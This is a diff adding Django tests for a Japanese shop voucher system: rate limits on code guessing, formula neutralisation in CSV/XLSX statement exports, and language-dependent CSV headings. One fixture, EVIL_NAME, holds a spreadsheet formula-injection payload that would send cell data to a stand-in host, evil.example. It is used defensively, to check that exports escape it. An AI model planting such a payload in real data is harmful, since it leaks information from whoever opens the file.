@@ -103,6 +103,45 @@ def test_failed_lookups_are_rate_limited_per_address(vouchers):
     assert client.post("/shop/redeem/", {"code": voucher_code(vouchers[0])}).status_code == 429
 
 
+def test_confirmation_posts_and_the_api_share_the_guessing_limit(client, vouchers):
+    """Every path that looks a code up counts failures and is refused once blocked:
+    the confirmation page's POST (which redeems) as well as the lookup and the API."""
+    shop, clerk = make_shop("はなみずき書店")
+    client.force_login(clerk)
+    for _ in range(FAILURE_LIMIT):
+        guess = codes.display(codes.generate())
+        assert client.post(f"/shop/redeem/{guess}/", {"shop": shop.pk}).status_code == 200
+    unknown = client.post(f"/shop/redeem/{codes.display(codes.generate())}/", {"shop": shop.pk})
+    assert unknown.status_code == 429
+    assert "一致しないコードの入力が続いたため" in unknown.content.decode()
+    real = voucher_code(vouchers[0])
+    assert client.post(f"/shop/redeem/{real}/", {"shop": shop.pk}).status_code == 429
+    api = client.post(
+        "/api/v1/shop/redemptions/",
+        {"code": real, "shop": shop.pk},
+        content_type="application/json",
+    )
+    assert api.status_code == 429 and api.json()["code"] == "too_many_attempts"
+    assert Voucher.objects.get(pk=vouchers[0].pk).status == Voucher.Status.ISSUED
+    assert not Voucher.objects.filter(status=Voucher.Status.REDEEMED).exists()
+
+
+def test_failed_confirmation_posts_are_limited_per_address(vouchers):
+    from django.test import Client
+
+    for _ in range(FAILURE_LIMIT):
+        shop, clerk = make_shop(f"店{uuid.uuid4().hex[:6]}")
+        client = Client(REMOTE_ADDR="203.0.113.10")
+        client.force_login(clerk)
+        client.post(f"/shop/redeem/{codes.display(codes.generate())}/", {"shop": shop.pk})
+    shop, fresh = make_shop("別の新しい店")
+    client = Client(REMOTE_ADDR="203.0.113.10")
+    client.force_login(fresh)
+    response = client.post(f"/shop/redeem/{voucher_code(vouchers[0])}/", {"shop": shop.pk})
+    assert response.status_code == 429
+    assert Voucher.objects.get(pk=vouchers[0].pk).status == Voucher.Status.ISSUED
+
+
 def test_non_shop_users_are_refused(client, volunteer):
     client.force_login(volunteer)
     assert client.get("/shop/redeem/").status_code == 403
@@ -252,6 +291,48 @@ def test_statement_page_and_exports(client, vouchers):
     )
     assert book.active.max_row == 3
     assert client.get(f"/shop/statements/{statement.pk}/exe/").status_code == 404
+
+
+EVIL_NAME = '=HYPERLINK("https://evil.example/?leak="&A1,"詳細")'
+
+
+def statement_rows(client, statement, language: str) -> list[list[str]]:
+    client.cookies["django_language"] = language
+    response = client.get(f"/shop/statements/{statement.pk}/csv/")
+    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+
+
+def test_statement_csv_neutralises_formulas_in_typed_names(client, vouchers):
+    shop, clerk = make_shop("数式商店")
+    clerk.full_name = EVIL_NAME
+    clerk.save(update_fields=["full_name"])
+    tokyo = timezone.get_default_timezone()
+    Voucher.objects.update(expires_on=dt.date(2027, 1, 1))
+    redeem_at(vouchers[0], shop, clerk, dt.datetime(2026, 7, 10, 12, tzinfo=tokyo))
+    statement = statement_generate(shop=shop, month=dt.date(2026, 7, 1))
+    client.force_login(clerk)
+    rows = statement_rows(client, statement, "ja")
+    assert rows[1][4] == "'" + EVIL_NAME
+    assert rows[1][2:4] == ["500", "500"]
+    book = openpyxl.load_workbook(
+        io.BytesIO(client.get(f"/shop/statements/{statement.pk}/xlsx/").content)
+    )
+    cell = book.active.cell(row=2, column=5)
+    assert (cell.value, cell.data_type) == (EVIL_NAME, "s")
+
+
+def test_statement_csv_headings_follow_the_request_language(client, vouchers):
+    shop, clerk = make_shop("言語商店")
+    tokyo = timezone.get_default_timezone()
+    Voucher.objects.update(expires_on=dt.date(2027, 1, 1))
+    redeem_at(vouchers[0], shop, clerk, dt.datetime(2026, 7, 10, 12, tzinfo=tokyo))
+    statement = statement_generate(shop=shop, month=dt.date(2026, 7, 1))
+    client.force_login(clerk)
+    english = ["Used at", "Voucher", "Points", "Amount (yen)", "Accepted by"]
+    japanese = ["使用日時", "商品券", "ポイント", "金額（円）", "受付者"]
+    assert statement_rows(client, statement, "en")[0] == english
+    assert statement_rows(client, statement, "ja")[0] == japanese
+    assert statement_rows(client, statement, "en")[0] == english
 
 
 # --- Onboarding ---------------------------------------------------------------------
